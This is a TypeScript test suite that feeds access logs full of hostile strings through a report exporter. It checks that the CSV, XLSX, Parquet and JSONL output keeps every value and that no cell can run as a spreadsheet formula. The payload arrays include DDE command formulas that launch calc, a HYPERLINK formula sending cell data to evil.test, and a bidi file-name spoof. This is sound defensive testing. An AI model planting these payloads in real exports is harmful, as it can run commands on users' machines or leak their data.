import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { guardedText, parseCsv } from './harness/csv.ts'
import { createAll, exportedBy } from './harness/exports.ts'
import { readJsonl } from './harness/read-jsonl.ts'
import { readParquet } from './harness/read-parquet.ts'
import { readXlsx } from './harness/read-xlsx.ts'
import { readZip } from './harness/read-zip.ts'
import { startTestServer, type TestServer } from './harness/server.ts'

/** Clients choose what stands in a log. Whoever opens a file made of it must not run it, nor see other figures for it. */

/** What the strings of any log may hold. */
const texts = [
  ...['=1+1', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', '=HYPERLINK(A1;B1)', '=cmd|/c calc!A1', '-1-1', '--1', '+1+1'],
  ...['\t=1+1', '\r=1+1', ' =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '\u000b=1+1', '%09=1', '%0D%0A=1'],
  ...['＝1+1', '＋1', '－1+1', '＠SUM(A1)', 'a,=1+1', 'a;=1+1', 'a\t=1+1', 'a;b', 'a,b', 'sep=;', "'=1", "''", '`=1`'],
  ...['-1', '+1', '-1.5e3', '1E5', '0123', '1e999', '-0', '+.5', '0x10', '1,000', '12:30', '2026-09-01', '1/2', 'TRUE'],
  ...['\\', '\\\\', '\\N', '\\n', '\\x09=1', 'NULL', 'nan', 'inf', '{}', '[]', '{{a}}', '{a:String}', '/*cells*/', ';'],
  ...[
    '<t>',
    '</t>',
    '</is></c></row>',
    '<f>1+1</f>',
    ']]>',
    '<![CDATA[',
    '&amp;',
    '&#x0;',
    '&lt;b&gt;',
    '<!--',
    '<?x?>',
  ],
  ...['_x0041_', '_x005F_', '_x0000_', '_x0041\u0001', '\u0001\u0008\u001f', '\u007f\u0085', '\u2028\u2029', '\uffff'],
  ...[
    '😀',
    '👩‍👩‍👧',
    '\u{10ffff}',
    'e\u0301',
    '\u202egpj.exe',
    '\u2066\u2069',
    '\u061c',
    '中文',
    'ﷺ',
    ' before',
    'after ',
  ],
  ...['x'.repeat(32_767), 'y'.repeat(32_768), 'z'.repeat(100_000), `=${'1+'.repeat(49_999)}1`, '  '],
  `${'a'.repeat(32_760)}${'😀'.repeat(10)}`,
]
/** What only a log in JSON can hold: quotes, line ends, NUL. */
const textsInJson = [
  ...['"', '""', '","', '"=1+1"', '=HYPERLINK("https://evil.test/?"&A1,"Total")', '=1+1";=1+1;"', '\n=1+1', '\r\n=1'],
  ...[
    'a\r\n1,2,3\r\n',
    'a\n=1',
    '\n',
    '\r',
    '\u0000',
    '\u0000=1',
    'a\u0000b',
    '"\r\n"2026-09-01 08:00:00",9\r\n"',
    '\\"',
  ],
]
/** Bytes that are no UTF-8, and what stands for them. */
const wrongBytes: [string, string][] = [
  ['ff', '\ufffd'],
  ['3d31ff', '=1\ufffd'],
  ['61c328', 'a\ufffd('],
  ['e4b8', '\ufffd'],
  ['eda080', '\ufffd'],
  ['c0af', '\ufffd'],
]

/** A request as logged, and as a file is to have it. */
type Line = { path: Buffer; referrer: Buffer; userAgent: Buffer; bytes: number; shown: Shown }
type Shown = { path: string; referrer: string; userAgent: string }
const plain: Shown = { path: '/a.jpg', referrer: 'https://www.example.test/', userAgent: 'curl/8.0' }

/** Each text in each place once. Bytes tell the lines apart, and add up to no other line's. */
function linesOf(strings: [bytes: Buffer, shown: string][]): Line[] {
  const places = Object.keys(plain) as (keyof Shown)[]
  return strings.flatMap(([raw, text], i) =>
    places.map((place, p): Line => {
      const prefix = place === 'path' ? '/' : ''
      const shown = { ...plain, [place]: prefix + text }
      const fields = {
        path: Buffer.from(plain.path),
        referrer: Buffer.from(plain.referrer),
        userAgent: Buffer.from(plain.userAgent),
      }
      return { ...fields, [place]: Buffer.concat([Buffer.from(prefix), raw]), bytes: 1_000_003 * (i + 1) + p, shown }
    }),
  )
}

const asUtf8 = (text: string): [Buffer, string] => [Buffer.from(text), text]
const huaweiLines = linesOf([
  ...texts.map(asUtf8),
  ...wrongBytes.map(([hex, shown]): [Buffer, string] => [Buffer.from(hex, 'hex'), shown]),
])
const jsonLines = linesOf([...texts, ...textsInJson].map(asUtf8))

const huaweiLog = Buffer.concat(
  huaweiLines.flatMap(({ path, referrer, userAgent, bytes }) => [
    Buffer.from('[01/Sep/2026:08:00:01 +0800] 198.51.100.7 5 "'),
    referrer,
    Buffer.from('" "HTTP/1.1" "GET" "www.example.test" "'),
    path,
    Buffer.from(`" 200 ${bytes} HIT "`),
    userAgent,
    Buffer.from('" "-"\n'),
  ]),
)
const jsonLog = jsonLines
  .map(({ path, referrer, userAgent, bytes }) => {
    const strings = { ClientRequestURI: path, ClientRequestReferer: referrer, ClientRequestUserAgent: userAgent }
    const known = { ClientIP: '198.51.100.7', ClientRequestHost: 'www.example.test', ClientRequestMethod: 'GET' }
    const figures = { EdgeStartTimestamp: '2026-09-01T02:00:01Z', EdgeResponseStatus: 200, EdgeResponseBytes: bytes }
    const texts = Object.fromEntries(Object.entries(strings).map(([name, value]) => [name, value.toString()]))
    return `${JSON.stringify({ ...known, ...texts, ...figures, CacheCacheStatus: 'hit' })}\n`
  })
  .join('')

/** Logs, each in a range of its own. */
const logs: [name: string, format: string, log: string | Buffer, lines: Line[], from: string][] = [
  ['a log of text', 'huawei_offline', huaweiLog, huaweiLines, '2026-09-01T08:00:00+08:00'],
  ['a log in JSON', 'cloudflare_logpush', jsonLog, jsonLines, '2026-09-01T10:00:00+08:00'],
]
const items: Record<string, (shown: Shown) => string> = {
  url: ({ path }) => `www.example.test${path}`,
  path: ({ path }) => `www.example.test${path.split('?')[0]}`,
  ua: ({ userAgent }) => userAgent,
  referer: ({ referrer }) => referrer,
}

const startsFormula = /^[=+\-@\t\r\n＝＋－＠]/
const isPlainNumber = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/
const cutAt = (text: string, length: number) => text.slice(0, length).replace(/[\ud800-\udbff]$/, '')
/** How each format has a text, and how its file is read: text, flux and requests of each row. */
const formats: Record<string, { shown: (text: string) => string; read: (file: Buffer) => Promise<unknown[][]> }> = {
  csv: {
    shown: guardedText,
    read: async (file) => parseCsv(file.toString()),
  },
  xlsx: {
    shown: (text) => (text.length > 32_767 ? `${cutAt(text, 32_767 - 6)}…[cut]` : text),
    read: async (file) => (await readXlsx(file))[0]?.rows ?? [],
  },
  parquet: { shown: (text) => text.replace(/^\ufeff/, ''), read: async (file) => (await readParquet(file)).rows },
  jsonl: { shown: (text) => text, read: async (file) => readJsonl(file).rows },
}

/** Rows by their figures, which are no two rows' the same, as text of one line each. */
const comparable = (rows: unknown[][]) =>
  rows.map(([text, flux, requests]) => `${flux} ${requests} ${JSON.stringify(text)}`).sort()

/** What a list has to have: the text that most lines share, with their sums, and each other one by itself. */
function expectedRows(lines: Line[], item: (shown: Shown) => string, shown: (text: string) => string): unknown[][] {
  const shared = lines.filter((line) => item(line.shown) === item(plain))
  const others = lines.filter((line) => !shared.includes(line))
  const flux = shared.reduce((sum, { bytes }) => sum + bytes, 0)
  return [[shown(item(plain)), flux, shared.length], ...others.map((line) => [shown(item(line.shown)), line.bytes, 1])]
}

let server: TestServer
beforeAll(async () => {
  server = await startTestServer({ timeZone: 'Asia/Shanghai' })
  for (const [name, format, log, lines] of logs) {
    const { json, text } = await server.load(log, { name, format })
    expect(json, text).toMatchObject({ state: 'loaded', requests: lines.length, rejected_lines: 0 })
  }
})
afterAll(() => server.stop())

async function fileOf(from: string, item: string, format: string): Promise<Buffer> {
  const start = Date.parse(from)
  const range = { start_time: start, end_time: start + 300_000 }
  const request = { action: `top_${item}_detail`, format, language: 'en', limit: 10_000, ...range }
  const [id = ''] = await createAll(server, [request])
  const { files } = await exportedBy(server, id)
  return files[0]?.bytes ?? Buffer.alloc(0)
}

/** A list names the domain of a URL or a path. */
const columnsBefore = (item: string) => (item === 'url' || item === 'path' ? 2 : 1)

describe.each(logs)('%s with hostile strings', (_name, _format, _log, lines, from) => {
  describe.each(Object.keys(items))('listed by %s', (item) => {
    it.each(Object.keys(formats))('has every text and every figure in %s', async (format) => {
      const { shown, read } = formats[format] ?? { shown: String, read: async () => [] }
      const rows = (await read(await fileOf(from, item, format))).slice(format === 'csv' ? 1 : 0)
      const found = rows.map((row) => row.slice(columnsBefore(item), columnsBefore(item) + 3))
      const expected = expectedRows(lines, items[item] ?? String, shown)
      expect(comparable(found)).toEqual(comparable(expected))
      expect(rows.map(([rank]) => Number(rank))).toEqual(rows.map((_row, n) => n + 1))
    })

    it('has no cell in CSV that a spreadsheet would run, and no text that is not in quotes', async () => {
      const text = (await fileOf(from, item, 'csv')).toString()
      for (const [, cell = ''] of text.matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(?:,|\r\n)/g)) {
        const content = cell.replace(/^"|"$/g, '')
        if (!cell.startsWith('"')) expect(cell).toMatch(/^\d+(\.\d{4})?$/)
        else if (startsFormula.test(content)) expect(content).toMatch(isPlainNumber)
      }
    })

    it('has no formula in XLSX: a cell is a number of ours, or text inside it', async () => {
      const parts = await readZip(await fileOf(from, item, 'xlsx'))
      const sheet = parts.get('xl/worksheets/sheet1.xml')?.toString() ?? ''
      const cells = sheet.split('<c ').slice(1)
      expect(cells.length).toBeGreaterThan(lines.length)
      for (const cell of cells) {
        const isText = /^r="[A-Z]\d+"( s="\d")? t="inlineStr"><is><t( xml:space="preserve")?>[^<]*<\/t><\/is><\/c>/
        const isFigure = /^r="[A-Z]\d+" s="[12]"><v>\d+(\.\d{4})?<\/v><\/c>/
        expect(isText.test(cell) || isFigure.test(cell), cell.slice(0, 200)).toBe(true)
      }
      expect([...parts.keys()].filter((name) => /calc|external|vba|link/i.test(name))).toEqual([])
    })
  })
})
